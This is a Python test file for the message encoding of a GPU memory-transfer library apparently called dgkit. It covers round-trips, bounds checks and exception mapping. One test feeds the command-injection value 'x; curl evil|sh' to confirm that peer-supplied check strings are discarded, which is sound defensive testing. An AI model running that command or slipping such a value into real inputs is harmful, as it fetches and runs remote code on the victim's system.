# SPDX-License-Identifier: Apache-2.0
"""Messages: what goes out comes in, and nothing else does."""

import contextlib

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from dgkit import errors
from dgkit.dma._ffi import lib
from dgkit.schema import MAX_SAMPLES, LatencyTask, RateTask, WatchTask
from dgkit.types import Op, Status
from dgkit.wire import messages as m
from dgkit.wire.error_codec import to_exception, to_wire

NUMBER = st.integers(0, 2**63 - 1)
HANDLE = st.integers(1, 2**63 - 1)

LATENCY = LatencyTask(offset=0, size=64, op=1, samples=10, path=0)
RATE = RateTask(size=64, op=1, window=32, seconds=0.5, path=0)
WATCH = WatchTask(offset=0, size=64, op=1, samples=50, path=0, every_s=0.05)
ALLOCATE = m.Allocate(id=1, size=4096, access=3, export=True, name="name", place="cuda:0")
IMPORT = m.Import(id=2, token=b"x" * 768)
FREE = m.Free(id=4, region=1, timeout=1.0)
MOVE = m.Move(id=5, src=1, src_offset=0, dst=2, dst_offset=0, size=64)
OPEN_RING = m.OpenRing(
    id=15, memory=b"x" * 768, region=1, locals=[2, 3], depth=64, weak=True, index=1, trace=False
)
CLOSE_RING = m.CloseRing(id=16, ring=1)

REQUESTS = [
    m.Hello(id=0, version=m.VERSION, pid=17, boot="boot", machine="machine", package="0.1.0"),
    ALLOCATE,
    IMPORT,
    m.Export(id=3, region=1, access=1),
    FREE,
    MOVE,
    m.Digest(id=6, region=1, offset=0, size=64),
    m.Latency(id=7, region=1, task=LATENCY),
    m.Rate(id=8, region=1, task=RATE),
    m.Cancel(id=9, target=7),
    m.Stats(id=10),
    m.Subscribe(id=11),
    m.Bye(id=12),
    m.Watch(id=13, monitor=7, region=1, task=WATCH),
    m.Outstanding(id=14),
    OPEN_RING,
    CLOSE_RING,
]


@pytest.mark.parametrize("request_", REQUESTS, ids=lambda r: type(r).__name__)
def test_a_request_comes_out_as_it_went_in(request_):
    assert m.decode_request(m.encode(request_)) == request_


@given(NUMBER, HANDLE, NUMBER, HANDLE, NUMBER, NUMBER)
def test_a_move_comes_out_as_it_went_in(number, src, src_at, dst, dst_at, size):
    move = m.Move(id=number, src=src, src_offset=src_at, dst=dst, dst_offset=dst_at, size=size)
    assert m.decode_request(m.encode(move)) == move


@given(st.binary(max_size=200))
def test_random_bytes_are_refused_or_are_a_message(data):
    try:
        request = m.decode_request(data)
    except msgspec.DecodeError:
        return
    assert type(request) in {type(known) for known in REQUESTS}


@pytest.mark.parametrize(
    "bad",
    [
        replace(MOVE, src=0),
        replace(MOVE, src_offset=-1),
        replace(MOVE, size=-64),
        replace(MOVE, id=2**64 - 1),
        replace(MOVE, size=1.5),
        replace(IMPORT, token=b"x" * 769),
        replace(ALLOCATE, access=4),
        replace(ALLOCATE, name="n" * 257),
        replace(ALLOCATE, place="p" * 257),
        m.Latency(region=1, task=replace(LATENCY, samples=MAX_SAMPLES + 1)),
        m.Latency(region=1, task=replace(LATENCY, op=2)),
        m.Rate(region=1, task=replace(RATE, window=65537)),
        m.Rate(region=1, task=replace(RATE, seconds=1e9)),
        replace(FREE, timeout=-1.0),
        replace(OPEN_RING, memory=b"x" * 769),
        replace(OPEN_RING, locals=[]),
        replace(OPEN_RING, locals=[2] * 9),
        replace(OPEN_RING, depth=63),
        replace(OPEN_RING, depth=16385),
        replace(OPEN_RING, index=0),
        replace(CLOSE_RING, ring=0),
        m.Watch(monitor=0, region=1, task=WATCH),
        m.Watch(monitor=7, region=1, task=replace(WATCH, size=0)),
        m.Watch(monitor=7, region=1, task=replace(WATCH, samples=4097)),
        m.Watch(monitor=7, region=1, task=replace(WATCH, every_s=0.009)),
        m.Watch(monitor=7, region=1, task=replace(WATCH, every_s=61.0)),
    ],
    ids=repr,
)
def test_a_field_out_of_its_bounds_is_refused(bad):
    with pytest.raises(msgspec.DecodeError):
        m.decode_request(m.encode(bad))


def test_a_later_version_may_add_fields_to_hello_and_is_still_understood():
    longer = msgspec.msgpack.encode([1, 0, 9, 17, "boot", "machine", "9.9", "new", {"more": 1}])
    assert m.decode_request(longer).version == 9


class _Completion:
    status, op, path, size = Status.PEER_LOST, Op.WRITE, "worker", 0
    submit_ns, post_ns, complete_ns = 10, 20, 35


@pytest.mark.parametrize(
    "error",
    [
        errors.BoundsError("past the end"),
        errors.AccessDenied("read-only"),
        errors.ClosedError("closed"),
        errors.DescriptorError("no descriptor"),
        errors.ExportError("not sealed"),
        errors.OutOfMemory(12, "no memory"),
        errors.QueueFull(11, "full"),
        errors.RegionBusy(16, "busy"),
        errors.Unsupported(95, "not here"),
        errors.LimitReached(24, "limit"),
        errors.PeerLost("gone"),
        errors.PeerRefused("no"),
        errors.PeerTimeout("slow"),
        errors.PeerVersion("other"),
        ValueError("value"),
        TypeError("type"),
    ],
    ids=lambda e: type(e).__name__,
)
def test_an_exception_arrives_as_the_same_class_with_the_same_words(error):
    failed = m.decode_reply(m.encode(to_wire(error, 5)))
    back = to_exception(failed)
    assert failed.id == 5
    assert type(back) is type(error)
    assert str(back) == str(error)


def test_a_transfer_error_arrives_with_its_completion():
    failed = m.decode_reply(m.encode(to_wire(errors.TransferError("lost", _Completion()), 5)))
    back = to_exception(failed)
    assert type(back) is errors.TransferError
    assert back.completion.status is Status.PEER_LOST
    assert (back.completion.op, back.completion.path, back.completion.latency_ns) == (
        1,
        "worker",
        25,
    )
    assert "PEER_LOST" in repr(back.completion)


def test_an_exception_of_another_library_arrives_as_peer_error_that_names_it():
    back = to_exception(m.decode_reply(m.encode(to_wire(ZeroDivisionError("oops"), 5))))
    assert type(back) is errors.PeerError
    assert "ZeroDivisionError: oops" in str(back)


def test_an_exception_that_nobody_knows_arrives_as_peer_error():
    assert (
        type(to_exception(m.Failed(id=1, kind="Exotic", text="text", errno=0, completion=None)))
        is errors.PeerError
    )
    assert (
        type(
            to_exception(
                m.Failed(id=1, kind="TransferError", text="text", errno=0, completion=None)
            )
        )
        is errors.PeerError
    )
    assert (
        type(to_exception(m.Failed(id=1, kind="RegionBusy", text="text", errno=0, completion=None)))
        is errors.RegionBusy
    )


@pytest.mark.parametrize("check", ["x; curl evil|sh", "gpu-present\n", "\x1b[2J", "a" * 41, "A"])
def test_what_a_peer_calls_a_check_becomes_no_command(check):
    told = to_exception(
        m.Failed(
            id=1, kind="DeviceUnavailable", text="no GPU", errno=19, completion=None, check=check
        )
    )
    assert told.check == ""
    assert "dgkit doctor" not in str(told)
    known = to_exception(
        m.Failed(
            id=1,
            kind="DeviceUnavailable",
            text="no GPU",
            errno=19,
            completion=None,
            check="gpu-present",
        )
    )
    assert known.check == "gpu-present"


def test_a_token_has_at_most_the_size_of_a_descriptor() -> None:
    for size, fits in ((lib.DG_DESCRIPTOR_MAX, True), (lib.DG_DESCRIPTOR_MAX + 1, False)):
        with contextlib.nullcontext() if fits else pytest.raises(msgspec.ValidationError):
            m.decode_request(m.encode(m.Import(id=2, token=b"x" * size)))
